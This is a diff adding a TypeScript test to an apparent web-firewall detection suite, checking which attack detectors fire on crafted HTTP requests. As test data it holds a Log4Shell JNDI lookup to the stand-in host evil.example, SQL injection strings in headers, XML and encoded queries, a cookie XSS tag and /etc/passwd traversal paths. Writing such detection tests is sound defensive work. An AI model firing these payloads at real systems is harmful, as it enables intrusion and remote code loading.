@@ -73,6 +73,32 @@ test("CRS parts through the host: where findings come from (cookie names, other 
   }
 });
 
+const req = (uri: string, headers: [string, string][], body?: string, method = "GET"): CrsRequest =>
+  ({ method, uri, headers: [["Host", "api"], ...headers], body: body === undefined ? undefined : Buffer.from(body), autocomplete: true });
+
+test("request parts the filter hands to attack.* (no corpora needed)", () => {
+  const host = new HostReplay();
+  try {
+    const found = (r: CrsRequest) => host.findings(r, 1).map((f) => `${f.detector}@${f.path}`).sort();
+    assert.deepEqual(found(req("/", [["X-Trace-Note", "${jndi:ldap://evil.example/a}"]])), ["attack.log4shell@x-trace-note", "attack.ssrf@x-trace-note"]);
+    assert.deepEqual(found(req("/", [["X-Forwarded-For", "1' OR '1'='1' --"]])), ["attack.sqli@x-forwarded-for"]);
+    assert.deepEqual(found(req("/", [["Cookie", "theme=dark; <script>alert(1)</script>=1"]])), ["attack.xss@cookie"]);
+    // headers HTTP defines are not read by attack.* (they would only add noise): Accept, Content-*, Sec-*
+    assert.deepEqual(found(req("/", [["Accept", "../../../../etc/passwd"], ["Sec-Fetch-Dest", "../../../../etc/passwd"]])), []);
+    // XML: an attribute value, a text node and a CDATA section are each judged (the whole document is no SQL)
+    for (const doc of ['<?xml version="1.0"?><order><item sku="1234 OR 1=1" qty="2">shoes</item></order>',
+      '<?xml version="1.0"?><order><item sku="ab-12">1234 OR 1=1</item></order>',
+      '<?xml version="1.0"?><order><item sku="ab-12">shoes</item><note><![CDATA[1234 OR 1=1]]></note></order>']) {
+      assert.deepEqual(found(req("/orders", [["Content-Type", "application/xml"]], doc, "POST")), ["attack.sqli@"], doc);
+    }
+    // %2B is a '+' the application sees (SQL string concatenation), not a space
+    assert.deepEqual(found(req("/search?q=a%27%2B(select%2B1)%2B%27", [])), ["attack.sqli@q"]);
+    assert.deepEqual(found(req("/form", [["Content-Type", "application/x-www-form-urlencoded"]], "q=a%27%2B(select%2B1)%2B%27", "POST")), ["attack.sqli@q"]);
+  } finally {
+    host.close();
+  }
+});
+
 const BENIGN: Array<[string, CrsRequest]> = [
   ["browser GET with many headers and cookies", { method: "GET", uri: "/products/shoes?page=2&sort=price_asc&q=running+shoes", autocomplete: true, body: undefined, headers: [
     ["Host", "shop.example.com"], ["User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"],
